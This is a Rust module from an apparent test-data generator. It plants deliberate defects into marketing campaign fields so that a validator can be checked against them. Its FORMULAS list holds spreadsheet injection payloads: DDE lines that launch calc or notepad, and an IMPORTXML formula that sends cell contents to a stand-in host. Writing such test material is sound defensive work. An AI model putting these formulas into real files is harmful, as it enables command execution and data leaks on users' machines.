//! Defects of the words: damage, markup, formulas, personal data, channels and promises.

use encoding_rs::{Encoding, MACINTOSH, WINDOWS_1250, WINDOWS_1251, WINDOWS_1252};

use super::cells::{Cells, one_line};
use super::dice::Dice;
use crate::Channel;
use crate::schema::Field;
use crate::validate::IssueCode;

/// The fields a reader sees.
const VISIBLE: [Field; 3] = [Field::Content, Field::Title, Field::Subject];

/// Characters nobody should find in a text. No null: it makes whole files look binary.
const CONTROLS: &[char] =
    &['\u{1}', '\u{2}', '\u{7}', '\u{8}', '\u{b}', '\u{c}', '\u{1b}', '\u{1f}', '\u{7f}'];

const INVISIBLE: &[char] =
    &['\u{200b}', '\u{2060}', '\u{ad}', '\u{202e}', '\u{feff}', '\u{200e}', '\u{200d}', '\u{2066}'];

const FORMULAS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"https://shop.example\",\"Open\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "=A1",
    "=IMPORTXML(CONCAT(\"https://shop.example/?v=\",A1),\"//a\")",
];

const MARKUP: &[&str] = &[
    "<b>New</b>",
    "<p>More inside</p>",
    "<br/>",
    "<a href=\"https://shop.example/a\">Look</a>",
    "<!-- block 2 -->",
    "<span style=\"color:red\">Today</span>",
    "<img src=\"https://shop.example/p.png\"/>",
    "</td>",
    "<STRONG>Now</STRONG>",
];

/// Numbers of the ranges reserved for fiction and testing, and addresses nobody has.
const PERSONAL: &[&str] = &[
    "Write to jane.doe@mail.example.",
    "Ask Sam Miller: sam.miller84@post.example",
    "Call Anna on +44 7700 900123.",
    "Text Joe at (415) 555-0134.",
    "Ring 212-555-0187, ask for Kim.",
    "Card 4111 1111 1111 1111.",
    "Pay to IBAN DE89 3704 0044 0532 0130 00.",
    "SSN 219-09-9999.",
    "tom_becker@home.example",
    "Mobile 07700 900456, Lee",
];

const DISCOUNTS: &[&str] = &[
    "Get 120% off.",
    "Save 150% today.",
    "0% off everything!",
    "Now 250% off all shoes.",
    "A 101 % discount.",
    "Save up to 300% now.",
    "Take an extra 110% off.",
    "Enjoy 199 percent off.",
];

const PRICES: &[&str] = &[
    "Was $20, now $25.",
    "Now $30 (was $30).",
    "Reduced from £10 to £12.",
    "$40 -> $44",
    "Was €15.99, now only €19.99.",
    "Originally $8.50, now $9.",
    "Only $99 instead of $89.",
    "Was 200 USD, now 250 USD.",
];

/// Phrases with characters outside of ASCII, as campaigns in English and beyond hold them.
const ACCENTED: &[&str] = &[
    "It’s here",
    "Café crème",
    "Don’t wait",
    "Our “best of” list",
    "São Paulo",
    "Crème brûlée",
    "Zürich – Genève",
    "Señor Piñata",
    "from £5",
    "only €20",
    "Ends tonight…",
    "Düsseldorf",
    "naïve art",
    "jalapeño",
    "25 °C outside",
    "Smörgåsbord",
    "Français",
    "You’ll love it",
    "Håndlavet på øen",
    "Żółw i łódź",
    "Příští týden",
    "Új árak",
    "Скидки сегодня",
    "¡Última hora!",
    "À bientôt",
    "New — see inside",
    "Straße",
    "½ price™",
    "● New in",
    "Mañana",
];

const OPT_OUT: &str = "Reply STOP to end.";

/// Plants a defect of this file; `None` if the code is none of it.
pub(super) fn plant(code: IssueCode, cells: &mut Cells, dice: &mut Dice) -> Option<Field> {
    Some(match code {
        IssueCode::MissingText => {
            let nothing = dice.pick(&["", " ", "\t", "  "]);
            for field in VISIBLE {
                cells.set(field, nothing);
            }
            return None;
        }
        IssueCode::ReplacementCharacter => scatter(cells, dice, &['\u{fffd}']),
        IssueCode::ControlCharacter => scatter(cells, dice, CONTROLS),
        IssueCode::InvisibleCharacter => scatter(cells, dice, INVISIBLE),
        IssueCode::Mojibake => mojibake(cells, dice),
        IssueCode::FormulaInjection => {
            let fields = [
                Field::Title,
                Field::Subject,
                Field::CallToAction,
                Field::Audience,
                Field::Source,
                Field::Offer,
                Field::Content,
            ];
            // A text message would lose the words by which it ends.
            let most = fields.len() - usize::from(cells.channel() == Channel::Sms);
            let field = fields.get(dice.place(most)).copied().unwrap_or(Field::Title);
            cells.set(field, dice.pick(FORMULAS));
            field
        }
        IssueCode::HtmlInText => say(cells, dice, MARKUP, &VISIBLE),
        IssueCode::PersonalData => say(cells, dice, PERSONAL, &VISIBLE),
        IssueCode::ImpossibleDiscount => {
            say(cells, dice, DISCOUNTS, &[Field::Content, Field::Subject, Field::Offer])
        }
        IssueCode::PriceNotReduced => say(cells, dice, PRICES, &[Field::Content, Field::Title]),
        IssueCode::OverChannelLimit => over_channel_limit(cells, dice),
        IssueCode::MissingOptOut => {
            let text = without_opt_out(&cells.short_text());
            cells.set(Field::Channel, Channel::Sms.as_str());
            cells.set(Field::Content, text);
            Field::Content
        }
        _ => return None,
    })
}

/// Adds one of the phrases to one of the texts.
fn say(cells: &mut Cells, dice: &mut Dice, phrases: &[&str], fields: &[Field]) -> Field {
    let field = one_of(cells, dice, fields);
    let phrase = dice.pick(phrases);
    add(cells, dice, field, phrase);
    field
}

fn one_of(cells: &mut Cells, dice: &mut Dice, fields: &[Field]) -> Field {
    let filled = cells.filled(fields);
    filled.get(dice.place(filled.len())).copied().unwrap_or(Field::Content)
}

/// Puts a phrase before a text or behind it.
fn add(cells: &mut Cells, dice: &mut Dice, field: Field, phrase: &str) {
    cells.make_room(field);
    let text = cells.get(field).trim();
    let joined = if dice.below(2) == 0 && !text.starts_with('\'') {
        format!("{phrase} {text}")
    } else {
        format!("{text} {phrase}")
    };
    cells.set(field, joined);
}

/// Puts a character into the middle of a word, once or a few times.
fn scatter(cells: &mut Cells, dice: &mut Dice, characters: &[char]) -> Field {
    let field = one_of(cells, dice, &VISIBLE);
    let character = dice.pick(characters);
    let mut text: Vec<char> = cells.get(field).chars().collect();
    for _ in 0..=dice.below(3) {
        // Between two letters of ASCII it has no use in any script.
        let places: Vec<usize> = text
            .windows(2)
            .enumerate()
            .filter(|(_, pair)| pair.iter().all(char::is_ascii_alphabetic))
            .map(|(at, _)| at + 1)
            .collect();
        // In the first half: the end of a text message names its way out, which must stay whole.
        let at = places.get(dice.place(places.len().div_ceil(2))).copied().unwrap_or(text.len());
        text.insert(at, character);
    }
    cells.set(field, text.into_iter().collect::<String>());
    field
}

/// Adds a phrase, then reads the text in an encoding it was not written in, once or twice.
fn mojibake(cells: &mut Cells, dice: &mut Dice) -> Field {
    let field = one_of(cells, dice, &VISIBLE);
    let phrase = dice.pick(ACCENTED);
    add(cells, dice, field, phrase);
    // Most damage was read as Windows-1252; an eighth of it twice.
    let encoding: &'static Encoding = match dice.below(16) {
        0 => WINDOWS_1250,
        1 => WINDOWS_1251,
        2 => MACINTOSH,
        _ => WINDOWS_1252,
    };
    let mut text = misread(cells.get(field), encoding);
    if dice.below(8) == 0 {
        text = misread(&text, encoding);
    }
    cells.set(field, text);
    field
}

fn misread(text: &str, encoding: &'static Encoding) -> String {
    encoding.decode_without_bom_handling(text.as_bytes()).0.into_owned()
}

/// A text on a channel that does not carry so much.
fn over_channel_limit(cells: &mut Cells, dice: &mut Dice) -> Field {
    let start = without_opt_out(&cells.short_text());
    let grow = |longest: usize, extra: usize| {
        let mut text = start.clone();
        while text.chars().count() <= longest + extra {
            text.push(' ');
            text.push_str(&start);
        }
        text
    };
    let (channel, field, longest) = match dice.below(6) {
        0 => (Channel::Sms, Field::Content, 10 * 153),
        1 => (Channel::PushNotification, Field::Title, 150),
        2 => (Channel::PushNotification, Field::Content, 500),
        3 => (Channel::SearchAds, Field::Title, 96),
        4 => (Channel::SearchAds, Field::Content, 183),
        _ => (Channel::Email, Field::Subject, 998),
    };
    let text = grow(longest, dice.place(60));
    cells.set(Field::Channel, channel.as_str());
    // The other texts came from a channel that may carry more.
    for other in VISIBLE.iter().filter(|other| **other != field) {
        let room = if *other == Field::Content { 90 } else { 40 };
        let short = super::cells::clip(&one_line(cells.get(*other)), room).to_owned();
        cells.set(*other, short);
    }
    cells.set(field, if channel == Channel::Sms { format!("{text} {OPT_OUT}") } else { text });
    field
}

/// The text without the words by which a message says how to end it.
fn without_opt_out(text: &str) -> String {
    const WORDS: [&str; 7] = ["stop", "opt", "unsub", "end", "cancel", "remove", "optout"];
    let keeps = |word: &&str| {
        let lower = word.trim_start_matches(|c: char| !c.is_alphabetic()).to_ascii_lowercase();
        !WORDS.iter().any(|stop| lower.contains(stop))
    };
    let kept = text.split_whitespace().filter(keeps).collect::<Vec<_>>().join(" ");
    if kept.is_empty() { "News for you".to_owned() } else { kept }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_opt_out_is_taken_out_word_by_word() {
        assert_eq!(without_opt_out("Sale today. Reply STOP to end, Txt2stop"), "Sale today. Reply to");
        assert_eq!(without_opt_out("STOP"), "News for you");
    }

    #[test]
    fn misread_text_is_what_real_exports_hold() {
        assert_eq!(misread("It’s", WINDOWS_1252), "Itâ€™s");
        assert!(ACCENTED.iter().all(|phrase| misread(phrase, WINDOWS_1252) != *phrase));
    }
}
